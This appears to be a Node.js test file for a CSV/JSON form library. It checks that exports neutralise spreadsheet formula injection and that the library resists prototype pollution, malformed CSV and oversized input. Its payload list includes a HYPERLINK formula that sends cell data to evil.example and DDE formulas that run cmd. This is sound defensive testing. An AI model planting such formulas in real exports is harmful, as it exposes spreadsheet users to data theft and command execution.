// Hostile input through the built package in Node (issue 10): CSV formula injection (OWASP
// payloads), broken CSV, GBK, prototype-named fields and arguments that are not documents.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import init, { validate, totals, aggregate, readCsv, writeCsv, parseJson, coverage, CxzyParseError } from '../../pkg/index.js';
import { gapCsv } from '../../pkg/review.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const sample = (name) => JSON.parse(fs.readFileSync(path.join(root, 'samples/stats', name), 'utf8'));

before(async () => {
  await init({ module_or_path: fs.readFileSync(path.join(root, 'pkg/cxzy_form_bg.wasm')) });
});

// OWASP "CSV Injection" payloads (and the guard's own edge cases).
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Error: click here")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=1+1', '\t=1+1', '\r=1+1', '+1', '-1', '@x',
  "'=1+1", "''=x", "'plain", '=',
];

/** The cells of CSV text as a spreadsheet reads them (RFC 4180). */
function cells(text) {
  const out = [];
  let cell = '';
  let quoted = false;
  let start = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"' && start) { quoted = true; start = false; } else if (c === ',' || c === '\n') { out.push(cell); cell = ''; start = true; } else if (c !== '\r' || text[i + 1] !== '\n') { cell += c; start = false; }
  }
  out.push(cell);
  return out;
}

test('writeCsv guards every OWASP payload with a leading apostrophe, and readCsv gives the table back exactly', () => {
  for (const p of PAYLOADS) {
    const doc = sample('heilongjiang-2010-batch1.json');
    doc.principal = p;
    doc.notes = p;
    doc.report.overview = p;
    doc.rows[0].orgs_total = p;
    const csv = writeCsv(doc);
    for (const c of cells(csv.slice(1))) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `${JSON.stringify(p)} written unguarded: ${JSON.stringify(c)}`);
    const back = readCsv(csv).doc;
    // A cell that is not a number is kept exactly as typed; header texts are trimmed by the
    // core whatever the source (a leading tab or CR goes), the rest of them comes back as is.
    assert.equal(back.rows[0].orgs_total, p);
    for (const f of [back.principal, back.notes, back.report.overview]) assert.equal(f, p.trim());
    assert.equal(writeCsv(back), csv, 'export → import → export is exact');
  }
});

test('the gap-list CSV guards by the same rule as the table CSV', () => {
  for (const p of PAYLOADS.filter((x) => !x.startsWith("'"))) {
    const doc = sample('heilongjiang-2010-batch1.json');
    doc.rows[0].orgs_total = p;
    const table = cells(writeCsv(doc).slice(1)).find((c) => c.endsWith(p));
    const gap = cells(gapCsv('orgs', [['o1', p, '党支部', '', '', '']]).slice(1))[7];
    assert.equal(gap, table, JSON.stringify(p));
    assert.equal(gap, `'${p}`);
  }
});

test('a broken CSV is a CxzyParseError where it is broken: an unclosed quote, a NUL', () => {
  const head = '填报单位,某市\n\n单位名称,基层党组织 · 总数(个)\n';
  assert.throws(() => readCsv(`${head}甲市,"12\n乙市,3\n`), (e) => e instanceof CxzyParseError && e.line === 4 && e.column === 4 && /never closed/.test(e.message));
  assert.throws(() => readCsv(`${head}甲市,1\u0000\n`), (e) => e instanceof CxzyParseError && e.line === 4 && /NUL/.test(e.message));
});

test('a GBK CSV says so (N006), from bytes or from text the page decoded; UTF-8 does not', () => {
  const bytes = fs.readFileSync(path.join(root, 'samples/stats/heilongjiang-2010-batch1.gbk.csv'));
  const fromBytes = readCsv(new Uint8Array(bytes));
  const n006 = fromBytes.issues.filter((i) => i.code === 'N006');
  assert.equal(n006.length, 1);
  assert.equal(n006[0].severity, 'info');
  assert.match(n006[0].message, /GBK/);
  assert.equal(fromBytes.doc.unit, '黑龙江省');
  const text = new TextDecoder('gbk').decode(bytes);
  assert.ok(readCsv(text, { encoding: 'gbk' }).issues.some((i) => i.code === 'N006'));
  assert.ok(!readCsv(text).issues.some((i) => i.code === 'N006'));
  const utf8 = new TextEncoder().encode(writeCsv(fromBytes.doc));
  assert.ok(!readCsv(utf8).issues.some((i) => i.code === 'N006'));
});

test('prototype-named fields are plain unknown fields (T008), in objects and in text', () => {
  const text = JSON.stringify(sample('heilongjiang-2010-batch1.json'))
    .replace('{"format"', '{"__proto__":{"polluted":1},"constructor":2,"toString":3,"format"')
    .replace('"name":"哈尔滨市"', '"name":"哈尔滨市","__proto__":5,"hasOwnProperty":1,"valueOf":"x"');
  const want = ['T008 /__proto__', 'T008 /constructor', 'T008 /toString', 'T008 /rows/0/__proto__', 'T008 /rows/0/hasOwnProperty', 'T008 /rows/0/valueOf'];
  for (const doc of [text, JSON.parse(text)]) {
    assert.deepEqual(validate(doc).map((i) => `${i.code} ${i.path}`), want);
  }
  assert.equal({}.polluted, undefined, 'no prototype pollution');
  assert.equal(totals(JSON.parse(text)).rows.length, 19);
});

test('arguments that are not documents give a clear TypeError or CxzyParseError, never one about `length`', () => {
  const odd = [() => 1, Symbol('x'), 10n];
  const cyclic = {};
  cyclic.self = cyclic;
  for (const a of [...odd, cyclic]) {
    for (const [name, call] of [['validate', () => validate(a)], ['totals', () => totals(a)], ['writeCsv', () => writeCsv(a)],
      ['coverage', () => coverage(a, a, { as_of: '2011-01-15', batch: 1, unit: 'x' })], ['aggregate', () => aggregate([a], { unit: 'x' })]]) {
      assert.throws(call, (e) => e instanceof TypeError && /^cxzy-form: .* must be an object or JSON text/.test(e.message), `${name}(${typeof a})`);
    }
  }
  assert.throws(() => aggregate(() => 1, { unit: 'x' }), /cxzy-form: aggregate takes an array/);
  for (const a of [() => 1, 42, {}, undefined]) {
    assert.throws(() => readCsv(a), (e) => e instanceof TypeError && /readCsv takes CSV text or bytes/.test(e.message));
    assert.throws(() => parseJson(a), (e) => e instanceof TypeError && /parseJson takes JSON text/.test(e.message));
  }
  // Values that are JSON but not a table are issues (T009), options that are not objects no options.
  for (const a of [undefined, null, 42, true, [1, 2, 3], 'not json']) {
    const r = (() => { try { return validate(a, () => 1); } catch (e) { return e; } })();
    assert.ok(Array.isArray(r) ? r.some((i) => i.code === 'T009') : r instanceof CxzyParseError, String(a));
  }
});

test('big objects at and past the limits are issues or a CxzyParseError, never a trap of the wasm', () => {
  const table = (rows, more = {}) => ({ format: 'cxzy-stats/1', unit: 'x', batch: 1, rows, ...more });
  const rows = (n) => Array.from({ length: n }, (_, i) => ({ name: `u${i}`, orgs_total: 1 }));
  const codes = (issues) => new Set(issues.map((i) => i.code));
  // 1 000 rows are read; 1 001 (or a million) are X002, the first 1 000 read (objects take the
  // packed path up to 1 000 rows, JSON text past it).
  assert.ok(!codes(validate(table(rows(1000)))).has('X002'));
  assert.equal(totals(table(rows(1000))).rows.length, 1000);
  for (const n of [1001, 1_000_001]) {
    const doc = table(n === 1001 ? rows(n) : Array.from({ length: n }, () => ({})));
    assert.ok(codes(validate(doc)).has('X002'), `${n} rows`);
    assert.equal(totals(doc).rows.length, 1000, `${n} rows`);
  }
  // An object whose header or a row's name alone is past 64 MiB: refused, whichever path it takes.
  const big = 'x'.repeat(64 * 1024 * 1024);
  const tooLarge = (e) => e instanceof CxzyParseError && /too large/.test(e.message);
  assert.throws(() => validate(table(rows(2), { notes: big })), tooLarge);
  assert.throws(() => totals(table([{ name: big }])), tooLarge);
  assert.throws(() => validate(table(rows(2000), { notes: big })), tooLarge);
  // A 60 MB unknown key (the document under 64 MiB): T008, named by its first 64 characters.
  const key = `orgs_reviewd${'k'.repeat(60 * 1024 * 1024)}`;
  const t008 = validate(table(rows(1), { [key]: 1 })).find((i) => i.code === 'T008');
  assert.equal(t008.params.field, key.slice(0, 64));
  assert.equal(typeof t008.params.suggestion, 'string');
  assert.ok(t008.message.length < 200);
  assert.equal(t008.path, `/${key}`);
});

test('a GBK file with undecodable bytes reads (N006), and the file its export saves reads back exactly', () => {
  // The csv fuzz target's finding: 38 bytes no decoding reads, as U+FFFD in the header fields.
  const found = fs.readFileSync(path.join(root, 'fuzz/corpus/csv/found-csv-export-refused-replacement-chars.gbk.csv'));
  const first = readCsv(found);
  assert.ok(first.issues.some((i) => i.code === 'N006'), 'says it was read as GBK');
  const exported = writeCsv(first.doc);
  assert.ok(exported.includes('\uFFFD'), 'the unreadable bytes stay visible');
  // What a clerk does next: saves the export and opens that file again.
  const saved = new TextEncoder().encode(exported);
  const again = readCsv(saved);
  assert.equal(writeCsv(again.doc), exported);
});

test('readCsv lists at most 1 000 issues of a code and says how many more (X005), as the CLI does', () => {
  const cells = Array.from({ length: 3000 }, (_, i) => `x${i}`);
  const { issues } = readCsv(`填报单位,某市\n批次,1\n统计截止日期,2011-01-15\n\n单位名称,${cells.join(',')}\n哈尔滨市,1\n`);
  assert.equal(issues.filter((i) => i.code === 'T008').length, 1000);
  const x005 = issues.filter((i) => i.code === 'X005');
  assert.equal(x005.length, 1);
  assert.deepEqual(x005[0].params, { code: 'T008', more: 2000 });
});
